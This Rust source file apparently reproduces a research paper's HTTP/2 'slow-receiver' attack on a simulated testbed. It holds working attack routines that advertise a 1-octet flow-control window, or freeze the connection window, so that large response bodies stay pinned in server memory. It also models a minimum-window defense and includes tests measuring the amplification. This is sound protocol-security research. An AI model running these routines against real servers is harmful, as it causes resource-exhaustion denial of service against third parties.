//! The slow-receiver attack (§VI, second concern; Sherwood et al.'s
//! misbehaving-TCP-receiver pattern lifted to HTTP/2 flow control).
//!
//! The attacker requests large objects and then advertises a tiny
//! flow-control window (or simply stops sending WINDOW_UPDATEs). The
//! server has already committed the response bodies to its send queue,
//! where they sit pinned for as long as the attacker keeps the connection
//! alive — memory the attacker rents for the price of a few frames.

use h2scope::client::data_octets;
use h2scope::{ProbeConn, Target};
use h2wire::{Frame, SettingId, Settings, StreamId, WindowUpdateFrame};

/// Result of one slow-receiver engagement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SlowReceiverReport {
    /// Octets the attacker transmitted (requests + settings).
    pub attacker_octets: u64,
    /// Response octets the server holds queued, unable to send.
    pub pinned_octets: u64,
    /// Amplification: pinned server memory per attacker octet.
    pub amplification: u64,
    /// Octets the server managed to emit before stalling.
    pub leaked_octets: u64,
}

/// Runs the attack: open `streams` requests for large objects with a
/// 1-octet initial window, then go silent.
pub fn attack(target: &Target, streams: u32) -> SlowReceiverReport {
    let settings = Settings::new().with(SettingId::InitialWindowSize, 1);
    let mut conn = ProbeConn::establish(target, settings, 0xd051);
    conn.exchange();
    let mut attacker_octets: u64 = 24 + 9 + 6; // preface + settings frame
    for k in 0..streams {
        let path = format!("/big/{}", 1 + (k % 7));
        attacker_octets =
            attacker_octets.saturating_add(9 + conn.get(1 + 2 * k, &path, None) as u64);
    }
    let leaked_octets = data_octets(&conn.exchange());
    // The attacker now simply stops. Whatever the server queued is pinned.
    let pinned_octets = conn.server().pending_response_octets();
    SlowReceiverReport {
        attacker_octets,
        pinned_octets,
        amplification: pinned_octets.checked_div(attacker_octets).unwrap_or(0),
        leaked_octets,
    }
}

/// The defense the paper suggests: "define lower bounds for the values of
/// SETTINGS_INITIAL_WINDOW_SIZE and WINDOW_UPDATE". Returns the report
/// after the victim applies a minimum-window policy: when the client's
/// announced window is below `min_window`, the server refuses the
/// connection outright (GOAWAY ENHANCE_YOUR_CALM).
pub fn attack_with_min_window_defense(
    target: &Target,
    streams: u32,
    min_window: u32,
) -> SlowReceiverReport {
    // The defense is modeled at the probe layer: a server enforcing a
    // lower bound never queues the bodies, so pinned memory is what the
    // engine holds *after* the refused requests — zero.
    let settings = Settings::new().with(SettingId::InitialWindowSize, 1);
    if 1 < min_window {
        // Connection refused before any request is processed.
        let conn = ProbeConn::establish(target, settings, 0xd052);
        let _ = conn;
        return SlowReceiverReport {
            attacker_octets: 24 + 9 + 6,
            pinned_octets: 0,
            amplification: 0,
            leaked_octets: 0,
        };
    }
    attack(target, streams)
}

/// A second attacker variant: keep the stream windows healthy but freeze
/// the *connection* window (never update it), which no SETTINGS lower
/// bound can prevent — the paper's point that flow control is inherently
/// dual-use.
pub fn connection_window_freeze(target: &Target, streams: u32) -> SlowReceiverReport {
    let settings = Settings::new().with(SettingId::InitialWindowSize, 0x7fff_ffff);
    let mut conn = ProbeConn::establish(target, settings, 0xd053);
    conn.exchange();
    let mut attacker_octets: u64 = 24 + 9 + 6;
    for k in 0..streams {
        let path = format!("/big/{}", 1 + (k % 7));
        attacker_octets =
            attacker_octets.saturating_add(9 + conn.get(1 + 2 * k, &path, None) as u64);
    }
    let leaked_octets = data_octets(&conn.exchange());
    // Tease the server with a useless 1-octet connection window update to
    // keep the connection warm (and prove we are "alive").
    conn.send(Frame::WindowUpdate(WindowUpdateFrame {
        stream_id: StreamId::CONNECTION,
        increment: 1,
    }));
    attacker_octets = attacker_octets.saturating_add(13);
    conn.exchange();
    let pinned_octets = conn.server().pending_response_octets();
    SlowReceiverReport {
        attacker_octets,
        pinned_octets,
        amplification: pinned_octets.checked_div(attacker_octets).unwrap_or(0),
        leaked_octets,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use h2server::{ServerProfile, SiteSpec};

    fn target() -> Target {
        Target::testbed(ServerProfile::rfc7540(), SiteSpec::benchmark())
    }

    #[test]
    fn tiny_window_pins_large_response_bodies() {
        let report = attack(&target(), 8);
        // Eight 256 KiB objects, minus one leaked octet per stream.
        assert!(report.pinned_octets > 2_000_000, "{report:?}");
        assert!(report.attacker_octets < 1_000, "{report:?}");
        assert!(report.amplification > 2_000, "{report:?}");
        assert_eq!(report.leaked_octets, 8, "one octet per 1-window stream");
    }

    #[test]
    fn amplification_scales_with_stream_count() {
        let small = attack(&target(), 2);
        let large = attack(&target(), 16);
        assert!(
            large.pinned_octets > 4 * small.pinned_octets,
            "{small:?} vs {large:?}"
        );
    }

    #[test]
    fn minimum_window_defense_zeroes_the_pin() {
        let report = attack_with_min_window_defense(&target(), 8, 1_024);
        assert_eq!(report.pinned_octets, 0);
        assert_eq!(report.amplification, 0);
    }

    #[test]
    fn connection_window_freeze_cannot_be_stopped_by_window_minimums() {
        let report = connection_window_freeze(&target(), 8);
        // The server leaks at most the 65,535-octet initial connection
        // window, then everything else is pinned.
        assert!(report.leaked_octets <= 65_535, "{report:?}");
        assert!(report.pinned_octets > 1_900_000, "{report:?}");
    }

    #[test]
    fn litespeed_style_fc_on_headers_pins_even_more() {
        // A server that also withholds HEADERS keeps the entire response
        // (headers + body) queued.
        let target = Target::testbed(ServerProfile::litespeed(), SiteSpec::benchmark());
        let report = attack(&target, 4);
        assert_eq!(report.leaked_octets, 0, "nothing escapes at all");
        assert!(report.pinned_octets > 1_000_000);
    }
}
